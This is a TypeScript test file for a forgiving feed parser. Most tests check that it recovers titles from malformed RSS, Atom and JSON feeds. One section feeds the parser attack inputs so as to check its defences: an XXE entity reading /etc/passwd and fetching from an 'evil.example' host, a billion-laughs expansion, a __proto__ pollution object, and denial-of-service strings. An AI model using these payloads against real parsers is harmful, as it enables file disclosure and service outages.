import { describe, expect, it } from "vitest";
import fc, { runs } from "../../test/properties.ts";
import { parseFeed } from "./parse-feed.ts";

const HERE = "https://example.com/feed";
const titles = (text: string) => {
  const outcome = parseFeed(text, HERE);
  return outcome.ok ? outcome.feed.items.map(({ title }) => title) : outcome.problem;
};
const TWO = "<item><guid>1</guid><title>One</title></item><item><guid>2</guid><title>Two</title></item>";
const rss = (inside: string) =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>${inside}</channel></rss>`;

describe("reads what it can of a broken feed", () => {
  it.each([
    ["junk before the prolog", `\n\n  junk ${rss(TWO)}`, ["One", "Two"]],
    [
      "a PHP warning before it",
      `<br />\n<b>Warning</b>: mysql() in <b>/x.php</b> on line <b>1</b><br />${rss(TWO)}`,
      ["One", "Two"],
    ],
    ["HTML around it", `<html><body>${rss(TWO)}</body></html>`, ["One", "Two"]],
    ["junk behind it", `${rss(TWO)}<script>x</script></div>`, ["One", "Two"]],
    ["cut after an item", rss(TWO).slice(0, rss(TWO).indexOf("</channel>")), ["One", "Two"]],
    [
      "cut inside a tag",
      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><enclosure url="htt`,
      ["One", "Two", "Three"],
    ],
    [
      "cut inside what identifies the last item",
      `<rss><channel>${TWO}<item><title>Three</title><guid>htt`,
      ["One", "Two"],
    ],
    [
      "cut inside a section",
      `<rss><channel>${TWO}<item><guid>3</guid><title>Three</title><description><![CDATA[and so`,
      ["One", "Two", "Three"],
    ],
    [
      "an unescaped ampersand",
      rss("<item><title>Q&A & more</title><link>https://a.example/?a=1&b=2</link></item>"),
      ["Q&A & more"],
    ],
    [
      "undeclared entities",
      rss("<item><title>caf&eacute;&nbsp;&mdash;&hellip; &foo;</title></item>"),
      ["café —… &foo;"],
    ],
    [
      "an unclosed item",
      rss("<item><guid>1</guid><title>One</title><item><guid>2</guid><title>Two</title></item>"),
      ["One", "Two"],
    ],
    [
      "only unclosed items",
      rss(Array.from({ length: 300 }, (_, n) => `<item><guid>${n}</guid><title>${n}`).join("")),
      Array.from({ length: 300 }, (_, n) => String(n)),
    ],
    ["stray end tags", rss(`</p></div></item>${TWO}</b>`), ["One", "Two"]],
    [
      "other letter cases",
      "<RSS><Channel><Item><GUID>1</GUID><Title>One</Title><PubDate>x</PubDate></Item></Channel></RSS>",
      ["One"],
    ],
    ["no rss element", `<channel>${TWO}</channel>`, ["One", "Two"]],
    [
      "unescaped markup in a description",
      rss("<item><guid>1</guid><description>a<br>b <img src=x> <p>c</description><title>One</title></item>"),
      ["One"],
    ],
    [
      "an unclosed quote",
      rss(`<item><guid isPermaLink="false>0</guid><title>Zero</title></item>${TWO}`),
      ["Zero", "One", "Two"],
    ],
    [
      "a less-than sign in an attribute",
      rss('<item><guid>1</guid><enclosure url="/a" title="a < b"/><title>One</title></item>'),
      ["One"],
    ],
    ["an unclosed comment", rss(`<!-- oops ${TWO}`), ["One", "Two"]],
    ["a comment with an item in it", rss(`<!-- <item><title>No</title></item> -->${TWO}`), ["One", "Two"]],
    ["no dates, empty items", rss(`<item/><item></item><item> </item>${TWO}`), ["One", "Two"]],
    [
      "zero bytes and control characters",
      rss("<item><title>O\u0000n\u0001e&#0;&#xD800;&#1114112;</title></item>"),
      ["One\ufffd\ufffd\ufffd"],
    ],
    [
      "two sections in one",
      rss("<item><title><![CDATA[O]]><![CDATA[ne]]> &amp; <![CDATA[all]]></title></item>"),
      ["One & all"],
    ],
    [
      "a prefix for everything",
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>One</a:title></a:entry></a:feed>',
      ["One"],
    ],
    ["an empty channel", rss(""), []],
    [
      "a bracket in the name of a doctype",
      `<!DOCTYPE rss PUBLIC "-//x[y//DTD z>w//EN" 'http://a.example/]'>${rss(TWO)}`,
      ["One", "Two"],
    ],
    [
      "a doctype with brackets in its quotes and comments",
      `<!DOCTYPE rss [<!-- don't ]> --><!ENTITY a "]>"><!ENTITY b '<b>">']>${rss(TWO)}`,
      ["One", "Two"],
    ],
    ["a doctype with an unclosed subset", `<!DOCTYPE rss [ <!ENTITY a "b"> ${rss(`${TWO}<!-- ] -->`)}`, ["One", "Two"]],
    ["a doctype with an unclosed quote", `<!DOCTYPE rss PUBLIC "-//x>${rss(TWO)}`, ["One", "Two"]],
    ["an unclosed doctype", `<!DOCTYPE rss ${rss(TWO)}`, ["One", "Two"]],
  ])("%s", (_, text, expected) => expect(titles(text)).toEqual(expected));

  it("a cut item keeps its key, so the whole one replaces it next time", () => {
    const whole = rss("<item><guid>3</guid><title>Three</title><description>all of it</description></item>");
    const cut = whole.slice(0, whole.indexOf("of it"));
    const keys = [whole, cut].map((text) => {
      const outcome = parseFeed(text, HERE);
      return outcome.ok && outcome.feed.items[0]?.key;
    });
    expect(keys).toEqual(["3", "3"]);
  });
});

describe("a hostile feed", () => {
  it("reads no file and fetches nothing", () => {
    const text = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/">%p;]>
      <rss><channel><item><title>[&x;]</title></item></channel></rss>`;
    expect(titles(text)).toEqual(["[&x;]"]);
  });
  it("expands nothing", () => {
    const entities = Array.from({ length: 20 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
    const text = `<!DOCTYPE rss [<!ENTITY e0 "lol">${entities}]><rss><channel><item><title>&e20;</title></item></channel></rss>`;
    expect(titles(text)).toEqual(["&e20;"]);
  });
  it("removes what PostgreSQL cannot store: NUL and lone surrogates", () => {
    const bad = "a\\u0000b\\ud800c";
    const json = `{"version":"https://jsonfeed.org/version/1.1","title":"${bad}","items":[{"id":"${bad}","title":"${bad}",
      "summary":"${bad}","content_html":"${bad}","tags":["${bad}"],"authors":[{"name":"${bad}"}],
      "attachments":[{"url":"https://a.example/a.mp3","mime_type":"${bad}"}]}]}`;
    const xml = `<rss><channel><title>&#0;&#xD800;</title><item><guid>&#0;x&#xD800;</guid><title>a&#0;&#xD800;</title>
      <enclosure url="https://a.example/a.mp3" type="a&#0;&#xD800;"/></item></channel></rss>`;
    for (const text of [json, xml]) {
      const parsed = parseFeed(text, "https://a.example/");
      // Written as JSON, both would be escapes.
      expect(JSON.stringify(parsed)).not.toMatch(/\\u0000|\\ud800/);
      expect(parsed).toMatchObject({
        ok: true,
        feed: { items: [{ enclosures: [{ url: "https://a.example/a.mp3" }] }] },
      });
    }
  });

  it("treats names of Object's properties like any other", () => {
    const text =
      '{"title":"x","__proto__":{"polluted":1},"items":[{"id":"__proto__","title":"One"},{"id":"constructor","title":"Two"}]}';
    expect(titles(text)).toEqual(["One", "Two"]);
    expect(({} as { polluted?: number }).polluted).toBeUndefined();
  });

  // Each is a megabyte or two that would take a quadratic parser many minutes.
  const MANY = 300_000;
  it.each([
    ["elements without end", `<rss><channel>${"<item>".repeat(MANY)}`],
    ["deep nesting", `<rss>${"<a>".repeat(MANY)}`],
    ["end tags only", `<rss>${"</a>".repeat(MANY)}`],
    ["unclosed tags", `<rss>${"<a ".repeat(MANY)}`],
    ["unclosed quotes", `<rss>${'<a b="'.repeat(MANY / 2)}${"<a b='".repeat(MANY / 2)}`],
    ["one tag of quotes", `<rss ${'""'.repeat(MANY)}`],
    ["unclosed comments", `<rss>${"<!--".repeat(MANY)}`],
    ["unclosed declarations", `<rss>${"<!x [".repeat(MANY)}`],
    ["ampersands", `<rss><channel><item><title>${"&".repeat(MANY)}</title></item></channel></rss>`],
    ["attributes", `<rss><channel><item><link ${"a".repeat(MANY)} ${"b=c ".repeat(MANY / 4)}/></item></channel></rss>`],
    [
      "a new name for every element",
      `<rss>${Array.from({ length: MANY / 10 }, (_, n) => `<x${n} xmlns:y${n}="z"/>`).join("")}`,
    ],
    [
      "less-than signs in a text",
      `<rss><channel><item><description><![CDATA[${"<".repeat(MANY)}]]></description></item></channel></rss>`,
    ],
    [
      "unclosed pictures",
      `<rss><channel><item><description><![CDATA[${"<img ".repeat(MANY)}]]></description></item></channel></rss>`,
    ],
    [
      "white space",
      `<rss><channel><item><title>${" ".repeat(MANY)}x${"\n".repeat(MANY)}</title></item></channel></rss>`,
    ],
    [
      "a date without end",
      `<rss><channel><item><title>x</title><pubDate>${"1 ".repeat(MANY)}</pubDate></item></channel></rss>`,
    ],
    ["white space alone", " ".repeat(MANY)],
  ])("is read in linear time: %s", (_, text) => {
    expect(parseFeed(text, HERE)).toHaveProperty("ok");
  });

  it("never throws, whatever is removed or inserted", () => {
    const whole = rss(
      `${TWO}<item><title><![CDATA[x]]></title><link href="/a"/><enclosure url='b' length="1"/><description>&lt;p&gt;</description></item>`,
    );
    const piece = fc.constantFrom(
      "<",
      ">",
      "<![CDATA[",
      "]]>",
      "<!--",
      "-->",
      '"',
      "'",
      "&",
      "&#x",
      "</item>",
      "<item",
      "<?",
      "/>",
      "\u0000",
      "\ud800",
      "<!DOCTYPE [",
    );
    const edit = fc.tuple(fc.nat(whole.length), fc.nat(40), piece);
    fc.assert(
      fc.property(fc.array(edit, { maxLength: 6 }), (edits) => {
        let text = whole;
        for (const [at, length, put] of edits) text = text.slice(0, at) + put + text.slice(at + length);
        expect(parseFeed(text, HERE)).toHaveProperty("ok");
      }),
      { numRuns: runs(500) },
    );
  });
});
